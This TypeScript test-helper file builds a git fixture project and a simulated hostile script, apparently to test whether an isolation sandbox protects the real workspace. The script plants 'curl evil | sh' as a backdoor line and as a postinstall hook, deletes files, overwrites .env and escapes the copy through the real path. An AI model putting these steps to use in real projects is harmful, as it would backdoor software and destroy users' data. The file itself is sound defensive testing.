// A small git project with an ignored node_modules, a script that attacks the workspace the way a
// hostile reproduction would, and a byte-for-byte picture of a folder to compare before and after.
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fixturesDir, makeTempDir } from './paths';

/** The localize-js fixture as a committed git repository with node_modules/pad-fixture (ignored) and an untracked notes.txt. */
export function hostileProject(prefix = 'view'): string {
  const root = path.join(makeTempDir(prefix), 'repo');
  fs.cpSync(path.join(fixturesDir, 'localize-js'), root, { recursive: true });
  fs.writeFileSync(path.join(root, '.gitignore'), 'node_modules/\n.env\n');
  fs.mkdirSync(path.join(root, 'node_modules', 'pad-fixture'), { recursive: true });
  fs.writeFileSync(path.join(root, 'node_modules', 'pad-fixture', 'index.js'), "module.exports = (s) => `[${s}]`;\n");
  fs.writeFileSync(path.join(root, '.env'), 'TOKEN=ignored-but-kept\n');
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: root, stdio: 'pipe' });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-q', '-m', 'fixture');
  fs.writeFileSync(path.join(root, 'notes.txt'), 'untracked notes\n');
  return root;
}

/**
 * A Node script that, through relative paths and through the real workspace's absolute path (found
 * from node_modules, as a copy would give it away), edits a tracked file (a backdoor line), adds
 * a postinstall to package.json, creates .envrc and a new source file, deletes README.md and
 * notes.txt, overwrites the ignored .env and plants a folder; then prints what it sees and ends
 * with `finale` (by default: fails, as a reproduction does).
 */
export const hostileScript = (finale = 'process.exit(1);') => `const fs = require('node:fs');
const path = require('node:path');
const attempt = (f) => { try { f(); } catch (e) { console.log('blocked ' + e.code); } };
const real = path.dirname(fs.realpathSync('node_modules'));
for (const base of ['.', real]) {
  attempt(() => fs.appendFileSync(path.join(base, 'src/math.js'), '\\nrequire("node:child_process").exec("curl evil | sh");\\n'));
  attempt(() => {
    const p = path.join(base, 'package.json');
    const j = JSON.parse(fs.readFileSync(p, 'utf8'));
    j.scripts.postinstall = 'curl evil | sh';
    fs.writeFileSync(p, JSON.stringify(j));
  });
  attempt(() => fs.writeFileSync(path.join(base, '.envrc'), 'export EVIL=1\\n'));
  attempt(() => fs.writeFileSync(path.join(base, 'src/backdoor.js'), 'module.exports = 1;\\n'));
  attempt(() => fs.rmSync(path.join(base, 'README.md')));
  attempt(() => fs.rmSync(path.join(base, 'notes.txt')));
  attempt(() => fs.writeFileSync(path.join(base, '.env'), 'TOKEN=overwritten\\n'));
  attempt(() => fs.mkdirSync(path.join(base, 'planted/deep'), { recursive: true }));
}
console.log('cwd=' + process.cwd());
console.log('dep=' + require('pad-fixture')('ok'));
const lines = fs.readFileSync('src/math.js', 'utf8').split('\\n');
console.log('math=' + lines[lines.findIndex((l) => l.includes('function subtract')) + 1]);
${finale}
`;

/** Every file, link and folder under `root` except .git's contents, with its bytes (a link: its target). */
export function treeBytes(root: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (dir: string) => {
    for (const e of fs.readdirSync(path.join(root, dir), { withFileTypes: true })) {
      const rel = dir ? `${dir}/${e.name}` : e.name;
      if (rel === '.git') continue;
      if (e.isDirectory()) {
        out.set(`${rel}/`, '');
        walk(rel);
      } else if (e.isSymbolicLink()) out.set(rel, `-> ${fs.readlinkSync(path.join(root, rel))}`);
      else out.set(rel, fs.readFileSync(path.join(root, rel)).toString('base64'));
    }
  };
  walk('');
  return out;
}

/** src/math.js's text with subtract fixed and marked, as a proposed change the run should see. */
export const patchedMath = (math: string) => math.replace(/(function subtract\(a, b\) \{\n\s*)return a \+ b;/, '$1return a - b; // patched in the view');

/** Runs `body` with ATOMIC_SKILLS_ISOLATION set to `mode` (undefined: the platform's default). */
export async function withIsolation<T>(mode: string | undefined, body: () => Promise<T>): Promise<T> {
  const before = process.env.ATOMIC_SKILLS_ISOLATION;
  if (mode === undefined) delete process.env.ATOMIC_SKILLS_ISOLATION;
  else process.env.ATOMIC_SKILLS_ISOLATION = mode;
  try {
    return await body();
  } finally {
    if (before === undefined) delete process.env.ATOMIC_SKILLS_ISOLATION;
    else process.env.ATOMIC_SKILLS_ISOLATION = before;
  }
}
